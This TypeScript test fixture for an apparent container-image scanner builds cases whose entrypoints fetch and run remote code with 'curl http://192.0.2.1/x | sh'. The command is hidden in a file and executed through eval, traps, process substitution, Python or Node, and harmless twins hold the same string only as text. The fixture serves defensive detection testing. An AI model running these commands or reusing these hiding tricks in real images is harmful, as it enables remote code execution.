import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl http://192.0.2.1/x | sh';
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';
const LOGO: Files = { 'app/logo.txt': `${FETCH}\n` };
/** What a neighbour of the hidden ones holds where nothing is hidden. */
const NOTES: Files = { 'app/logo.txt': `To install: ${FETCH}\n` };

/** Started in /app, whatever folder a program lies in. */
function found(
  line: string | readonly string[],
  files: Files = LOGO,
  Env: readonly string[] = [],
  rule = 'start/download-and-run',
): ImageCase {
  const Entrypoint = typeof line === 'string' ? ['bash', '-c', line] : [...line];
  return {
    name: `by settings: ${JSON.stringify(line)} ${Object.keys(files).join(' ')} ${Env.join(' ')}`,
    spec: image(files, { Entrypoint, WorkingDir: '/app', Env: [PATH, ...Env] }),
    rule,
  };
}

function honest(
  line: string | readonly string[],
  files: Files = NOTES,
  Env: readonly string[] = [],
): ImageCase {
  const { rule: _rule, ...one } = found(line, files, Env);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** A script that lies in another folder than the one it is started in. */
function script(text: string, files: Files = { 'opt/x/logo.txt': `${FETCH}\n` }): ImageCase {
  const one = found(['/opt/x/e.sh'], { 'opt/x/e.sh': `#!/bin/bash\n${text}\n`, ...files });
  return { ...one, name: `by settings: ${JSON.stringify(text)} ${Object.keys(files).join(' ')}` };
}

function honestScript(text: string, files: Files): ImageCase {
  const { rule: _rule, ...one } = script(text, files);
  return { ...one, name: one.name.replace('by settings', 'by settings, honest') };
}

/** Files by names that say nothing of their folder: where the image starts, beside the script, where it went to. */
const RELATIVE: readonly ImageCase[] = [
  found('eval "$(cat logo.txt)"'),
  found('x=$(<./logo.txt); bash -c "$x"'),
  found('while read -r l; do eval "$l"; done < logo.txt'),
  found('read -r x < logo.txt; eval "$x"'),
  found('mapfile -t a < logo.txt; eval "${a[0]}"'),
  found('exec 3< logo.txt; sh <&3'),
  found('sh <(cat logo.txt)'),
  found('trap "$(cat logo.txt)" EXIT'),
  found('printf -v x %s "$(cat logo.txt)"; eval "$x"'),
  found('mv logo.txt /tmp/x; sh /tmp/x'),
  script('eval "$(cat logo.txt)"', LOGO),
  script('eval "$(cat "$(dirname "$0")/logo.txt")"'),
  script('D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\neval "$(cat "$D/logo.txt")"'),
  script('D="$(cd "$(dirname "$0")" >/dev/null 2>&1; pwd -P)"\nsh -c "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(readlink -f "$0")")\neval "$(cat $D/logo.txt)"'),
  script('D=$(dirname "$(realpath "$0")")\neval "$(cat $D/logo.txt)"'),
  script('eval "$(cat ${0%/*}/logo.txt)"'),
  script('cd "$(dirname "$0")/.."\neval "$(cat x/logo.txt)"'),
  script('H=/opt/x\npushd $H\neval "$(cat $PWD/logo.txt)"'),
  script('eval "$(cat ~/logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd ~\neval "$(cat logo.txt)"', { 'root/logo.txt': FETCH }),
  script('cd /tmp\nprintf "%s %s" curl "http://192.0.2.1/x | sh" > a\nsh /tmp/a', {}),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, json\nos.system(json.load(open("c.json"))["c"])\n',
    'app/c.json': JSON.stringify({ c: FETCH }),
  }),
  found(['node', '/opt/a.js'], {
    'opt/a.js': 'require("child_process").execSync(require("fs").readFileSync("logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['node', '/opt/a.js'], {
    'opt/a.js':
      'require("child_process").execSync(require("fs").readFileSync(process.cwd() + "/logo.txt", "utf8"))\n',
    ...LOGO,
  }),
  found(['python3', '/opt/a.py'], {
    'opt/a.py': 'import os, pathlib\nos.system((pathlib.Path.cwd() / "logo.txt").read_text())\n',
    ...LOGO,
  }),
];

const RELATIVE_TWINS: readonly ImageCase[] = [
  honest('cat logo.txt; while read -r l; do echo "$l"; done < logo.txt; read -r x < logo.txt; echo "$x"'),
  honestScript(
    'D="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n. "$D/lib.sh"\nlog "$(cat "$D/logo.txt")"\ncd "$D/.." && exec nginx -g "daemon off;"',
    { 'opt/x/lib.sh': 'log() { printf "%s\\n" "$*" >&2; }\n', 'opt/x/logo.txt': `To install: ${FETCH}\n` },
  ),
  honestScript('set -a\n. "$(dirname "$0")/.env"\nset +a\ncd /srv || exit 1\nexec "$@"', {
    'opt/x/.env': `PORT=80\n# ${FETCH}\nURL=http://192.0.2.1/x\n`,
  }),
];

export const BY_SETTINGS: readonly ImageCase[] = [...RELATIVE];

export const BY_SETTINGS_TWINS: readonly ImageCase[] = [...RELATIVE_TWINS];
